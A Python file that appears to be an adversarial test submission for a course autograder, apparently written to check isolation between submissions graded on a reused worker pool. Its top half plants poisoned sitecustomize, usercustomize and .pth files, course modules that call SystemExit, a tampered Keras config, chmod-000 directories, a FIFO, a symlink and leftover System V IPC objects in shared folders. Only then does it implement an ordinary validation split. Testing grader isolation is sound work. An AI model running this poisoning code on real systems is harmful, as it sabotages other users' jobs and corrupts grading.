"""Writes, for the next submission graded by the same warm pool, into every folder it can reach
(/tmp, /dev/shm, its home, its own folder): modules of the course, sitecustomize, a .pth, a
Keras configuration, a folder it then closes (chmod 000), a FIFO, a link; and System V shared
memory, a message queue and a semaphore set; then answers honestly."""
import ctypes
import os

import numpy as np

POISON = "raise SystemExit('poisoned by the previous submission')\n"
folders = ["/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), os.getcwd()]
for folder in folders:
    for name in ("validation.py", "linear_classifier.py", "sitecustomize.py", "usercustomize.py"):
        try:
            with open(os.path.join(folder, name), "w") as stream:
                stream.write(POISON)
        except OSError:
            pass
    try:
        with open(os.path.join(folder, "poison.pth"), "w") as stream:
            stream.write("import sys; sys.exit('poisoned')\n")
        os.makedirs(os.path.join(folder, ".keras"), exist_ok=True)
        with open(os.path.join(folder, ".keras", "keras.json"), "w") as stream:
            stream.write('{"backend": "jax", "floatx": "float16"}')
        closed = os.path.join(folder, "closed", "deeper", "deepest")
        os.makedirs(closed, exist_ok=True)
        with open(os.path.join(closed, "hidden.py"), "w") as stream:
            stream.write(POISON)
        os.chmod(os.path.join(folder, "closed", "deeper"), 0)
        os.chmod(os.path.join(folder, "closed"), 0)
        os.mkfifo(os.path.join(folder, "fifo"))
        os.symlink("/submission", os.path.join(folder, "link"))
    except OSError:
        pass

libc = ctypes.CDLL(None)
libc.shmget(0x6B6572, 4096, 0o1000 | 0o666)
libc.msgget(0x6B6572, 0o1000 | 0o666)
libc.semget(0x6B6572, 1, 0o1000 | 0o666)


def split_validation(inputs, targets, validation_fraction=0.3, seed=None):
    permutation = np.random.default_rng(seed).permutation(len(inputs))
    count = int(validation_fraction * len(inputs))
    inputs, targets = inputs[permutation], targets[permutation]
    return (inputs[count:], targets[count:]), (inputs[:count], targets[:count])
